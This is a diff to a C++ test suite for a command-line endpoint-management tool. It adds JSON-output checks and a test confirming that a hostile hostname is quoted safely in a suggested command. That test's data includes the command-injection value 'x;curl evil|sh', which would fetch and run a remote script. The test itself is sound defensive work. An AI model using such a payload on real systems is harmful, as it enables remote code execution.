@@ -160,7 +160,22 @@ TEST_F(Commands, TagsByHandAndAttributes) {
             std::string::npos)
       << lab_.err();
   EXPECT_EQ(lab_.run({"attribute", "laptop7", "score.edr", "--remove"}), kDone);
+  EXPECT_EQ(lab_.run({"attribute", "laptop7", "score.edr", "--remove", "--json"}), kDone);
+  EXPECT_EQ(json::parse(lab_.out()), json::parse(R"({"name":"score.edr","removed":true})"));
   EXPECT_EQ(lab_.run({"attribute", "laptop7", "score.edr", "1.5"}), kMisused);
+}
+
+// What a machine calls itself is its own say, and the command is there to be copied.
+TEST_F(Commands, ACommandToCopyHoldsAHostNameAsOneWord) {
+  std::string evil = laptop7();
+  const auto at = evil.find("\"laptop7\"");
+  ASSERT_NE(at, evil.npos);
+  evil.replace(at, 9, "\"x;curl evil|sh\"");
+  lab_.ems.on("GET endpoints", page({evil}));
+  lab_.ems.on("GET endpoints/7F4704E462E2CF1430D14814C557BD7B", evil);
+  lab_.ems.on("GET endpoints/7F4704E462E2CF1430D14814C557BD7B/attributes", page({}));
+  EXPECT_NE(lab_.run({"attribute", "7F4704E462E2CF1430D14814C557BD7B", "owner"}), kDone);
+  EXPECT_NE(lab_.err().find("postern attribute 'x;curl evil|sh' owner VALUE"), std::string::npos) << lab_.err();
 }
 
 TEST_F(Commands, AFeedIsAddedOrChangedLookedAtAndRemoved) {
@@ -180,6 +195,8 @@ TEST_F(Commands, AFeedIsAddedOrChangedLookedAtAndRemoved) {
   lab_.ems.on("DELETE feeds/kev", "", 204);
   EXPECT_EQ(lab_.run({"feed", "kev", "--remove"}), kDone) << lab_.err();
   EXPECT_EQ(lab_.out(), "the feed kev is gone, and what it said\n");
+  EXPECT_EQ(lab_.run({"feed", "kev", "--remove", "--json"}), kDone) << lab_.err();
+  EXPECT_EQ(json::parse(lab_.out()), json::parse(R"({"name":"kev","removed":true})"));
   for (const auto& wrong : std::vector<std::vector<std::string>>{
            {"feed", "kev"}, {"feed", "kev", url, "--remove"}, {"feed", "kev", "--remove", "--refresh"},
            {"feed", "kev", "--refresh", "--every", "1d"}, {"feed", "kev", url, "--every", "soon"}}) {
